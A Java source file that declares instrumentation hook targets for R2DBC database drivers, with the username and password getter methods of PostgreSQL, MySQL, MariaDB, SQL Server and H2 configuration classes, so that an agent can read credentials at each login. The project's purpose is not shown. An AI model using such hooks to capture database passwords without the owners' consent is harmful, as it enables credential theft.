package io.secretagent.hooks;

import java.util.List;

/**
 * Drivers of R2DBC 0.8 and newer: PostgreSQL, MySQL (of io.asyncer and of dev.miku), MariaDB, SQL Server and H2. User and password are
 * read from the driver's own configuration at each login.
 */
final class R2dbcHook {

    private static final String POSTGRESQL = "io.r2dbc.postgresql.";
    private static final String ASYNCER = "io.asyncer.r2dbc.mysql.";
    private static final String MIKU = "dev.miku.r2dbc.mysql.";
    private static final String MARIADB = "org.mariadb.r2dbc.";
    private static final String MSSQL = "io.r2dbc.mssql.";
    private static final String H2 = "io.r2dbc.h2.";

    static final List<Target> TARGETS = ClientHook.of(HookName.R2DBC)
            .url("io.r2dbc.spi.ConnectionUrlParser", "parseQuery", "java.lang.CharSequence")
            .credential(POSTGRESQL + "PostgresqlConnectionConfiguration", "getUsername") // before 1.0.4
            .credential(POSTGRESQL + "PostgresqlConnectionConfiguration", "getPassword")
            .credential(POSTGRESQL + "SingleHostConnectionFunction$UsernameAndPassword", "getUsername") // before 1.1
            .credential(POSTGRESQL + "SingleHostConnectionFunction$UsernameAndPassword", "getPassword")
            .credential(POSTGRESQL + "authentication.UsernameAndPassword", "getUsername")
            .credential(POSTGRESQL + "authentication.UsernameAndPassword", "getPassword")
            .returnedLogin(POSTGRESQL + "PostgresqlConnectionFactory", "create")
            .credential(ASYNCER + "MySqlConnectionConfiguration", "getUser")
            .credential(ASYNCER + "MySqlConnectionConfiguration", "getPassword")
            .createdLogin(ASYNCER + "MySqlConnectionFactory")
            .credential(MIKU + "MySqlConnectionConfiguration", "getUsername") // 0.8.0
            .credential(MIKU + "MySqlConnectionConfiguration", "getUser")
            .credential(MIKU + "MySqlConnectionConfiguration", "getPassword")
            .returnedLogin(MIKU + "MySqlConnectionFactory", "create")
            .credential(MARIADB + "MariadbConnectionConfiguration", "getUsername")
            .credential(MARIADB + "MariadbConnectionConfiguration", "getPassword")
            .returnedLogin(MARIADB + "MariadbConnectionFactory", "create")
            .credential(MSSQL + "MssqlConnectionConfiguration", "getUsername")
            .credential(MSSQL + "MssqlConnectionConfiguration", "getPassword")
            .createdLogin(MSSQL + "MssqlConnectionFactory")
            .credential(H2 + "H2ConnectionConfiguration", "getUsername")
            .credential(H2 + "H2ConnectionConfiguration", "getPassword")
            .returnedLogin(H2 + "H2ConnectionFactory", "create")
            .targets();

    private R2dbcHook() {}
}
